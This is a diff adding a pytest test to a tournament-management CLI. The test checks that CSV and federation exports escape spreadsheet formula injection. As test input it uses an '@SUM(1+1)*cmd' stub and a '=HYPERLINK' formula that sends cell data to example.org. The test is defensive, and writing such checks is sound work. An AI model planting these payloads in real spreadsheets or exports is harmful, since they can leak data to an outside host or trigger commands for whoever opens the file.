@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 import json
 import re
 import zipfile
@@ -12,6 +13,7 @@ import pytest
 from cli.tournament.desk import Desk
 from mostek.cli.tournament.files import export_formats
 from mostek.documents.document import documents
+from mostek.tournament.file_formats import read_tournament
 
 OF_SOMEBODY = {"card": "--player 1", "exclusion": "--player 8"}
 
@@ -215,3 +217,33 @@ def test_one_archive_has_all_that_a_federation_needs(held: Desk) -> None:
     back = next(name for name in files if name.endswith(".json"))
     assert json.loads(files[back])["tournament"]["name"] == "Próba Żółw"
     assert "not closed yet" in desk.says("export federation")
+
+
+HYPERLINK = '=HYPERLINK("http://example.org/?"&A1,"wyniki")'
+
+
+def test_texts_are_no_formulas_in_tables_and_stay_exact_in_files_of_programs(desk: Desk, tmp_path: Path) -> None:
+    desk.founded(3)
+    desk.does(f"register '@SUM(1+1)*cmd' --city '{HYPERLINK}' --club '{HYPERLINK}'")
+    desk.does("checkin --all")
+    desk.does("pair")
+    desk.plays()
+    with pytest.MonkeyPatch.context() as place:
+        place.chdir(tmp_path)
+        tables = [Path(file) for file in desk.does("export csv")["files"]]
+        rows = [row for file in tables for row in csv.reader(file.read_text("utf-8-sig").splitlines(), delimiter=";")]
+        assert f"'{HYPERLINK}" in {cell for row in rows for cell in row}
+        assert "'@SUM(1+1)*cmd" in {cell for row in rows for cell in row}
+        risky = {cell for row in rows for cell in row if cell[:1] in ("=", "+", "-", "@")}
+        assert risky
+        assert all(re.fullmatch(r"-[0-9]+", cell) for cell in risky), "a spread below 0 is a number"
+        assert read_tournament({file.name: file.read_bytes() for file in tables}).players[3].city == HYPERLINK
+        for form in ("json", "tourney"):
+            files = desk.does(f"export {form}")["files"]
+            assert any('"@SUM(1+1)*cmd"' in Path(file).read_text("utf-8") for file in files), form
+        (archive,) = desk.does("export federation")["files"]
+        with zipfile.ZipFile(archive) as packed:
+            texts = [packed.read(name).decode("utf-8-sig") for name in packed.namelist() if name.endswith(".txt")]
+    cells = {cell for each in texts for line in each.splitlines() if "\t" in line for cell in line.split("\t")}
+    assert f"'{HYPERLINK}" in cells
+    assert not [cell for cell in cells if cell.startswith(("=", "@"))]
